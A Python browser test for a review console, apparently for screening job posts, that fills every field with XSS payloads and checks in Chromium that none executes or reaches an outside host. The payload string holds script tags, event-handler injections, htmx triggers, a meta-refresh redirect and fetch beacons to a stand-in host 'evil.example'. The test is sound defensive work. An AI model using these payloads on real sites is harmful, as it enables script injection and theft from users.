"""Hostile text in every field, through every page, in a real Chromium: no script, no request, no dialog.

Once as the console is; once with escaping broken on purpose: then the content policy and `hx-disable` must hold alone.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from playwright.sync_api import Page, sync_playwright
from sqlalchemy import insert, update

from patrol.console.app import create_app
from patrol.console.passwords import hash_password
from patrol.crawling.addresses import Gate
from patrol.crawling.browser import find_browser, launch_options
from patrol.records import Post
from patrol.settings import Settings, database_url
from patrol.store import Connection, bulk, jobs, passing, queue, runs, views
from patrol.store.accounts import Role, create_account
from patrol.store.assessments import save_assessment
from patrol.store.audit import add_audit
from patrol.store.columns import now
from patrol.store.database import open_database, writing
from patrol.store.decisions import decide
from patrol.store.enqueue import enqueue
from patrol.store.groups import place_in_group
from patrol.store.items import add_note
from patrol.store.posts import save_post
from patrol.store.schema import unit
from patrol.store.schema_desk import export
from patrol.store.units import make_unit
from patrol.workspace import init_workspace
from tests.test_console import PASSWORD, assessed

pytestmark = pytest.mark.browser
PEOPLE = ("ani", "senior", "custodian", "auditor", "admin")
NOBODY = {"settled_by": None, "settled_at": None, "approved": None}
FAR = "https://evil.example"
REFRESH = f"<meta http-equiv=refresh content='0;url={FAR}/m'>"
"""What no content policy stops where it is markup: only escaping does."""
PAYLOADS = f"""<script>window.hit=1;fetch('{FAR}/s')</script><img src={FAR}/i onerror=window.hit=2>
<svg onload=window.hit=3>
<svg><animate onbegin=window.hit=4 attributeName=x dur=1s></svg><math><mtext><img src=x onerror=window.hit=5></math>
<a href=javascript:window.hit=6>kerja</a><iframe src={FAR}/f srcdoc="<script>parent.hit=7</script>"></iframe>
<div hx-get=/hantu hx-trigger=load></div><div data-hx-get=/hantu data-hx-trigger="load"
hx-on::load="window.hit=8"></div>
<div hx-get=/hantu hx-trigger="load[window.hit=9]" data-hx-on:htmx:load="window.hit=9"></div><base href={FAR}/>
<form action={FAR}/p><button>kirim</button></form><style>*{{background:url({FAR}/c)}}</style>
<link rel=stylesheet href={FAR}/l>
<object data={FAR}/o></object><embed src={FAR}/e><video src={FAR}/v autoplay></video>
<input autofocus onfocus=window.hit=10>
<details open ontoggle=window.hit=11></details>{{{{7*7}}}}{{% raw %}}"""
ENDS = """"'></textarea></title></style></script></template></select></dialog>"""


def hostile(where: str, *, broken: bool) -> str:
    """A payload that says where it stands."""
    return f"{where} {ENDS if not broken else ''}{'' if broken else REFRESH}{PAYLOADS}"


def fill(home: Path, *, broken: bool) -> None:
    """Payloads in every field that a stranger, a source or a colleague can write."""

    def said(where: str) -> str:
        return hostile(where, broken=broken)

    database = open_database(database_url(Settings(), init_workspace(home)))
    with writing(database) as connection:
        for name in PEOPLE:
            role: Role = "analyst" if name == "ani" else name  # type: ignore[assignment]
            hashed = hash_password(PASSWORD)
            create_account(
                connection, unit="unit", name=name, password_hash=hashed, role=role, display_name=said("nama tampil")
            )
        text = said("teks kerja") + " \u200b\u202e 0812 0000 1234 " * 2
        for number, lane in enumerate(("urgent", "urgent", "help", "standard")):
            post = Post(
                source=said("sumber"),
                key=f"k{number}",
                text=text + (" lagi" * number if lane == "urgent" else f" {lane}" * 60),
                title=said("judul"),
                url=f"{FAR}/{said('alamat')}",
                author=said("penulis"),
                company=said("perusahaan"),
                location=said("tempat"),
                salary=said("gaji"),
                parse_suspect=True,
            )
            saved = save_post(connection, post)
            judged = assessed(post.text, "critical", lane)
            finding = replace(judged.findings[0], rule=said("aturan"), why=said("sebab"))
            contacts = ("+6281200001234", f"tg:{said('akun')[:60]}", said("kontak")[:60])
            judged = replace(judged, findings=(finding,), contacts=contacts, disguises=(said("trik"),))
            save_assessment(connection, saved.revision_id, judged, slice_rate=0.0, slice_seed="x")
            enqueue(connection, "unit", place_in_group(connection, saved.revision_id).group_id)
        views.save_view(connection, "unit", "ani", "'><img src=x onerror=window.hit=1>", f"text={PAYLOADS[:300]}")
        run = runs.start_run(connection, "crawl", said("run"))
        runs.end_run(connection, run, "error", {}, error=said("galat"))
        jobs.add_job(connection, "hand_in", {"url": said("serah")}, unit="unit", asked_by="ani")
        held = queue.claim(connection, "unit", "ani")
        assert held is not None
        reasons = {"verdict": "trafficking", "reasons": ["recruitment"], "note": said("catatan")}
        token = {"token": held.token, "version": held.item.version, "idem": "hostile-0001"}
        decide(connection, "unit", held.item.id, analyst="ani", **token, **reasons)  # type: ignore[arg-type]
        for _ in range(2):
            held = queue.claim(connection, "unit", "ani")
            if held is not None:
                add_note(connection, "unit", held.item.id, author="ani", text=said("catatan"))
                passing.ask_for_help(connection, "unit", held.item.id, analyst="ani", text=said("tanya"))
        colleagues(connection, said)


def colleagues(connection: Connection, said: Callable[[str], str]) -> None:
    """What those write whose pages an analyst does not see: units, exports, bulk decisions and how their job failed."""
    named = said("<b>")[:60].strip()
    make_unit(connection, named, parent="unit", kind=named[:40], territory=[], by="admin")
    connection.execute(update(unit).where(unit.c.name == named).values(territory=[said("wilayah")]))
    at = now()
    asked = {"unit": "unit", "asked_by": "custodian", "purpose": said("keperluan"), "asked_at": at}
    days = {"since": at - timedelta(days=1), "until": at}
    settled = {"settled_by": said("penyetuju"), "settled_at": at, "approved": True}
    connection.execute(insert(export).values([{**asked, **days, **settled}, {**asked, **days, **NOBODY}]))
    jobs.add_job(connection, "export", {"export": 1, "language": said("bahasa")}, unit="unit", asked_by="senior")
    form: dict[str, Any] = {"analyst": "ani", "verdict": "legit", "reasons": ["news"], "note": said("catatan")}
    bulk.begin(connection, "unit", [1, 2, 3], idem="hostile-b1", alone=1, **form)
    made = bulk.ask_worker(connection, bulk.begin(connection, "unit", [1, 2], idem="hostile-b2", **form))
    while job := jobs.claim_job(connection):
        jobs.fail_job(connection, job.id, str(job.token), said("galat pekerjaan"))
    assert made.job_id is not None
    add_audit(connection, unit="unit", actor=said("pelaku"), action=said("tindakan"), detail={"a": said("rincian")})


@contextmanager
def serving(home: Path, *, broken: bool) -> Iterator[str]:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    app = create_app(init_workspace(home), Settings(console_port=port))
    if broken:
        app.state.desk.templates.env.autoescape = False
    server = uvicorn.Server(uvicorn.Config(app, port=port, log_level="error"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(10)


def addresses(page: Page, address: str, *, items: bool) -> list[str]:
    """Every page that the navigation leads to, and those of the items, of the queue and of what is decided together."""
    led_to = [link.get_attribute("href") or "" for link in page.locator(".top nav a").all()]
    if not items:
        return [address + path for path in dict.fromkeys(led_to)]
    own = [
        "/",
        "/antrian",
        "/antrian?state=decided",
        "/cari?q=kerja",
        "/cari?q=0812%200000%201234",
        "/serah",
        "/butir/999",
    ]
    own += [*led_to, "/massal?butir=4&butir=3&butir=2&butir=1", "/massal/1", "/massal/2", "/massal/2/kemajuan"]
    for number in (1, 2, 3, 4):
        own += [f"/butir/{number}", f"/butir/{number}/salinan", f"/butir/{number}/serupa"]
    return [address + path for path in dict.fromkeys(own) if path.startswith("/")]


@pytest.mark.parametrize("broken", [False, True], ids=["as it is", "escaping broken"])
def test_hostile_text_does_nothing(tmp_path: Path, broken: bool) -> None:
    home = tmp_path / "unit"
    fill(home, broken=broken)
    said: list[str] = []
    asked: list[tuple[str, str]] = []
    with serving(home, broken=broken) as address, sync_playwright() as playwright:
        here = address.removeprefix("http://")
        browser = playwright.chromium.launch(**launch_options(find_browser(), Gate.of((here,))))
        seen = set()
        for name in PEOPLE:
            page = browser.new_context(user_agent=f"Firefox/1 {PAYLOADS}".replace("\n", " ")).new_page()
            page.on("dialog", lambda dialog: said.append("dialog"))
            page.on("console", lambda message: said.append(message.text))
            page.on("response", lambda response: asked.append((response.url, response.frame.url)))
            page.goto(address)
            page.fill("input[name=name]", name)
            page.fill("input[name=password]", PASSWORD)
            page.keyboard.press("Enter")
            page.wait_for_selector("form[action='/keluar']")
            for target in addresses(page, address, items=name == "ani"):
                if target.removeprefix(address) in seen - {"/ekspor"}:  # those who approve see other buttons there
                    continue
                page.goto(target)
                page.wait_for_load_state("networkidle")
                assert page.evaluate("window.hit") is None, target
                assert page.url.startswith(address), target
                seen.add(target.removeprefix(address))
        browser.close()
    assert {"/akun", "/unit", "/audit", "/ekspor", "/saya", "/massal/1", "/massal/2", "/butir/1"} <= seen
    assert [found for found in asked if not found[0].startswith(address)] == []
    assert [where for url, where in asked if "/hantu" in url] == []
    assert "dialog" not in said
    if not broken:
        errors = [line for line in said if "404" not in line and not line.startswith("[DOM]")]  # a browser's advice
        assert errors == [], "nothing was there for the content policy to stop"
